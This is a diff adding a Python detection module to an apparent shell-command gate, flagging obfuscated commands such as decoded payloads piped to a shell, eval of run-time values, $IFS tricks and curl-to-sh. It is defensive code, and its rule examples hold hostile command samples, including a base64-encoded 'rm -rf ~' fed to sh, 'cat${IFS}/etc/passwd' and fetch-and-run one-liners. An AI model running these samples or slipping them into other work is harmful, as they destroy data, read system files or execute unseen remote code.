@@ -1,0 +1,126 @@
+"""Obfuscation: commands that hide what they run (decoded payloads fed to a shell, commands built
+from variables or substitutions, ``$IFS`` word-splitting, escaped heads)."""
+
+from __future__ import annotations
+
+import re
+from typing import Final
+
+from gatesh.rater.builtin._base import SHELLS, A, D, Cmd, Ctx, Hit, MatchResult, Rule, is_interpreter
+
+_IFS: Final = re.compile(r"\$\{?IFS\b")
+_HEAD_ESCAPES: Final = re.compile(r"^\s*(?:\w+=\S*\s+)*(?:\$'[^']*\\(?:x[0-9a-fA-F]|[0-7]{3}|u[0-9a-fA-F])"
+                                  r"|[\w/.-]*(?:''|\"\")[\w/.-]+\s)")
+_ESCAPE_SEQ: Final = re.compile(r"\\x[0-9a-fA-F]{2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}")
+_DECODE_WORDS: Final = re.compile(r"base64\s+(?:-\w*d|--decode|-D)|xxd\s+-r|\brev\b|\\x[0-9a-f]{2}|"
+                                  r"b64decode|fromhex|unhexlify|decode\(|openssl\s+(?:enc\s+)?-?(?:base64|d)\b.*-d|"
+                                  r"\bgunzip\b|\bzcat\b|uudecode|base32\s+-d|\btr\s+['\"]?[a-z]-[a-z]", re.I)
+_BENIGN_DYNAMIC: Final = re.compile(r"^\"?\$(?:\{)?(?:[A-Za-z_][A-Za-z0-9_]*|@|\*|[0-9])(?:\})?\"?$")
+_WHICH: Final = re.compile(r"^\"?(?:\$\((?:which|command -v|type -p)\s+[\w.+-]+\)|`(?:which|command -v)\s+[\w.+-]+`)\"?$")
+
+
+def is_decoder(c: Cmd) -> bool:
+    """``c`` turns encoded text back into text (base64 -d, xxd -r, rev, printf of escapes, …)."""
+    h = c.head
+    if h in ("base64", "base32", "basenc", "gbase64") and c.has("-d", "--decode", "-D"):
+        return True
+    if h == "xxd" and c.has("-r", "-revert"):
+        return True
+    if h == "openssl" and (("base64" in c.args or "enc" in c.args) and c.has("-d")):
+        return True
+    if h in ("rev", "uudecode", "zcat", "gunzip", "bzcat", "xzcat") or (h in ("gzip", "bzip2", "xz", "zstd") and c.has("-d")):
+        return True
+    if h in ("printf", "echo") and any(_ESCAPE_SEQ.search(a) for a in c.args):
+        return True
+    if h == "tr" and len(c.pos) >= 2 and re.search(r"[a-z]-[a-z]", c.pos[0], re.I) and c.pos[0] != c.pos[1] and c.pos[1][:1].lower() in "nm":
+        return True
+    return bool(is_interpreter(h) and re.search(r"b64decode|fromhex|unhexlify|decode\(['\"](?:hex|base64|rot)", " ".join(c.args)))
+
+
+def _is_sink(c: Cmd) -> bool:
+    h = c.head
+    if h in SHELLS and not c.has("-c"):
+        return True
+    if h in ("eval", "source", "."):
+        return True
+    if is_interpreter(h) and (not c.pos or c.pos[0] == "-") and not any(a in ("-c", "-e", "-r", "-E") for a in c.args):
+        return True
+    return False
+
+
+def decode_into_shell(c: Cmd) -> MatchResult:
+    if not _is_sink(c):
+        return None
+    if any(is_decoder(f) for f in c.feeders):
+        return Hit(detail="a decoded payload is piped into " + c.head)
+    return None
+
+
+def dynamic_code(c: Cmd) -> MatchResult:
+    """eval / sh -c / source of a value only known at run time."""
+    h = c.head
+    if h == "eval" or (h in SHELLS and c.has("-c")) or h in ("source", "."):
+        dyn_words = [a for a, d in zip(c.args, c.dyn, strict=False) if d]
+        if not dyn_words:
+            return None
+        joined = " ".join(dyn_words)
+        if _DECODE_WORDS.search(joined) or any(is_decoder(x) for x in c.ctx.cmds if x.sc.context in ("substitution", "process-substitution")):
+            return Hit(detail="runs a decoded payload")
+        if any(w.startswith("<(") or "curl" in w or "wget" in w for w in dyn_words):
+            return Hit(severity=D, detail="runs code fetched at run time")
+        return Hit(severity=D, detail="runs code that is only known when it runs",
+                   remedy="write the command out literally")
+    return None
+
+
+def dynamic_head(c: Cmd) -> MatchResult:
+    if c.head:
+        return None
+    raw = c.sc.argv[0].text if c.sc.argv else ""
+    if _WHICH.match(raw) or _BENIGN_DYNAMIC.match(raw):
+        return Hit(severity=D, detail=f"the program is named by {raw}", remedy="name the program literally")
+    return Hit(detail=f"the program's name is assembled at run time ({raw[:40]})")
+
+
+def text_tricks(ctx: Ctx) -> MatchResult:
+    t = ctx.text
+    if _IFS.search(t):
+        return Hit(detail="$IFS word-splitting")
+    for c in ctx.cmds:
+        raw = c.sc.raw
+        if raw and _HEAD_ESCAPES.match(raw):
+            return Hit(detail="an escaped or quote-split command name")
+    return None
+
+
+RULES: tuple[Rule, ...] = (
+    Rule("obfuscation.decode-to-shell", A, "This hides what it runs: {detail}.", decode_into_shell,
+         examples=("echo cm0gLXJmIH4= | base64 -d | sh", "xxd -r -p payload.hex | bash", "printf '\\x72\\x6d' | sh",
+                   "echo 'hsab' | rev | sh"),
+         counter=("echo aGk= | base64 -d", "cat script.sh | bash")),
+    Rule("obfuscation.dynamic-code", A, "This {detail}, so the gate cannot tell what it does.", dynamic_code,
+         examples=("eval \"$(echo cm0= | base64 -d)\"", "bash -c \"$(echo x | base64 --decode)\""),
+         counter=("eval 'ls'", "bash -c 'echo hi'")),
+    Rule("obfuscation.dynamic-head", A, "The gate cannot tell what runs: {detail}.", dynamic_head,
+         examples=("a=r;b=m;$a$b -rf x", "$(echo rm) -rf x", "${x:0:1}m -rf y"),
+         counter=("ls", "git status")),
+    Rule("obfuscation.text-tricks", A, "This uses {detail}, a way to hide a command from readers.", text_tricks, on_facts=True,
+         examples=("cat${IFS}/etc/passwd", "$'\\x72\\x6d' -rf x", "r''m -rf x"),
+         counter=("IFS=, read -r a b <<< 'x,y'", "echo 'it''s'")),
+)
+
+
+_FETCHERS: Final = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "lwp-download", "lynx"})
+
+
+def fetch_into_shell(c: Cmd) -> MatchResult:
+    if _is_sink(c) and any(f.head in _FETCHERS for f in c.feeders):
+        return True
+    return None
+
+
+RULES = (*RULES, Rule(
+    "obfuscation.fetch-to-shell", D, "This runs code downloaded from the network without showing it.",
+    fetch_into_shell, remedy="download the script to a file, read it, then run it",
+    examples=("curl -fsSL https://example.com/install.sh | sh", "wget -qO- https://x.example/i | bash"),
+    counter=("curl -fsSL https://example.com/install.sh -o install.sh",)))
